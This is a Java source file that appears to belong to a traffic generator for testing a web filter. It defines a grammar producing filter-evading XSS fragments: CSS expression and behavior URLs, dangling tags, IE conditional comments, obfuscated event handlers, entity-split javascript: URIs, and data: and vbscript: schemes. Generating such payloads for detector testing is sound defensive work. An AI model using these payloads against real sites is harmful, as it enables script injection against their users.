package ai.kongguard.traffic.attack;

import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Pieces of markup and style sheets that filters miss because no element is complete. */
final class XssFragments {

    private static final Grammar GRAMMAR = XssWords.GRAMMAR.extend(
            """
            wrap ::=
              3×«»
              "
              '
              «value»"
              «value»'
              «word»;
            split ::=
              /**/
              /*«letters 1..6»*/
              \\
              \\00
            css_value ::=
              4×«?«word»:»«expression¦«@mix expression»»(«js»)
              2×«word»:ex«split»pression(«js»)
              2×«-moz-binding¦-o-link¦behavior»:url(«q:="¦'¦»«//¦http://¦https://¦»«server»/«name».«xml¦htc¦xbl»«?#«name»»«=q»)
              2×@«im«?\\»port¦«@mix import»» «?url(»«q:="¦'»«//¦http://¦javascript:alert(«0..9»)//»«server»/«name».css«=q»«?)»;
              «background¦background-image¦list-style¦list-style-image¦content»:url(«javascript¦vbscript¦JaVaScRiPt»:«js»)
              «width¦height¦top¦left»:expression(«call»(«arg»))
              @charset "«x¦utf-7»";@import "«//¦http://»«server»";
            sheet ::=
              4×«wrap»«css_value»
              3×«wrap»«sp»style=«q:="¦'¦`»«css_value»«?;»«=q»
              2×<«tag» style=«q:="¦'¦`»«css_value»«=q»«?>»
              «wrap»;«css_value»;
              }«css_value»«?}»
              «word»{«css_value»}
              style=«css_value»
            dangling ::=
              3×<«/¦»«script¦iframe¦svg¦object¦embed¦xss¦style¦form¦base¦meta¦applet»«gap»«letters 0..3»
              2×«value»<«/¦»«@mix «script¦iframe¦svg¦object¦xss»»«?>»
              2×«wrap»<«script¦iframe¦img¦svg¦a¦base¦form»«gap»«src¦href¦action¦data»=«?«"¦'»»«//¦http://¦https://»«server»/«?«name»»
              «wrap»<«script¦xss¦iframe»«?>»«letters 2..6»</«script¦xss¦iframe»«?>»
              <«xss¦x¦foo¦«letters 2..5»»«gap»«event»«?=»
              «wrap»<«script¦style¦iframe¦textarea¦xmp¦noscript»«gap»«letters 1..4»=«q:="¦'»«?«word»»
            comment_tag ::=
              2×<!--[if «gte IE «4..9»¦IE¦true¦lt IE «6..10»»]><«script>«js»</script¦img src=x onerror=«js»¦xss»><![endif]-->
              <!--[if]><script>«js»</script>«?-->»
              <!--«letters 0..4»--«!¦»><«tag»«gap»«event»=«js»«?>»
              <comment><img src="</comment><img src=x onerror=«js»//">
            loose ::=
              4×«sp»autofocus«sp»«?tabindex=«0..9»«sp»»«onfocus¦onfocusin»=«q:="¦'¦»«js»«=q»
              3×«sp»«event»=«q:="¦'¦»((«n:=letters 1..1»)=>(«alert¦confirm¦prompt»)(«=n»))(«k:=`¦'»«letters 1..3»«=k»)«=q»
              3×«sp»«event»=«q:="¦'»«js»«=q»«sp»«letters 1..3»=«=q»
              2×«sp»«style=«letters 1..5»¦id=«letters 1..3»¦tabindex=«0..9»»«sp»«event»=«js»
              «word»«sp»«event»=«?"»«n:=letters 1..1»='«x:=al¦pr¦co»',«m:=letters 1..1»=«top¦self¦window»;«=n»+='«ert¦ompt¦nfirm»';«=m»[«=n»](«arg»)«?"»
            odd_element ::=
              3×<«custom¦xss¦x¦«letters 2..7»»««nl»¦«tab»¦«cr»¦«ff»¦/¦ »«event»«?«sp»»=«?«sp»»«q:="¦'¦»«js»«=q»«?>»
              3×<«custom¦x¦«letters 2..6»»«nl»«event»=«q:="¦'»«n:=letters 1..1»='«al¦pr¦co»',«m:=letters 1..1»=«top¦self¦window¦parent»;«=n»+='«ert¦ompt¦nfirm»';«=m»[«=n»](«arg»)«=q»«?>»
              <«IMG¦img¦a¦iframe¦input»«gap»«SRC¦src¦href»=«?"»ja«&#118¦&#0000118¦&#x76»«?;»ascript:«js»«?"»«?>»
              <«IMG¦img¦a»«gap»«src¦SRC¦href»=«?"»«j:=j¦ja¦jav»&#«0000¦00¦0»«97..118»«;¦»«letters 0..3»&#«0000¦000¦»«97..118»«;¦»«letters 1..5»:«js»«?"»>
              <«img¦a¦iframe»«gap»«src¦href»="j«nl»a«nl»v«nl»a«nl»s«nl»c«nl»r«nl»i«nl»p«nl»t«nl»:«js»">
              <«img¦a¦iframe»«gap»«src¦href»="jav«&#x0«9¦A¦D»;¦&#«9¦10¦13»;¦«tab»¦«nl»¦«cr»»ascript:«js»"«?>»
            scheme ::=
              2×data:«application/javascript¦text/javascript¦text/html¦application/x-javascript¦image/svg+xml»«?;charset=utf-8»,«js»
              2×data:«application/javascript¦text/html¦text/javascript»;base64,«@base64 «js»»
              «@mix javascript»:«js»
              «vbscript¦livescript¦mocha¦jscript»:«msgbox¦[code]¦alert»(«arg»)
              «feed¦view-source¦jar¦pcast»:javascript:«js»
            """);

    static final List<AttackFamily> FAMILIES = List.of(
            Xss.family(GRAMMAR, "xss_style_value", "sheet"),
            Xss.family(GRAMMAR, "xss_dangling", "dangling"),
            Xss.family(GRAMMAR, "xss_comment", "comment_tag"),
            Xss.family(GRAMMAR, "xss_loose_attribute", "loose"),
            Xss.family(GRAMMAR, "xss_odd_element", "odd_element"),
            Xss.family(GRAMMAR, "xss_scheme", "scheme"));

    private XssFragments() {}
}
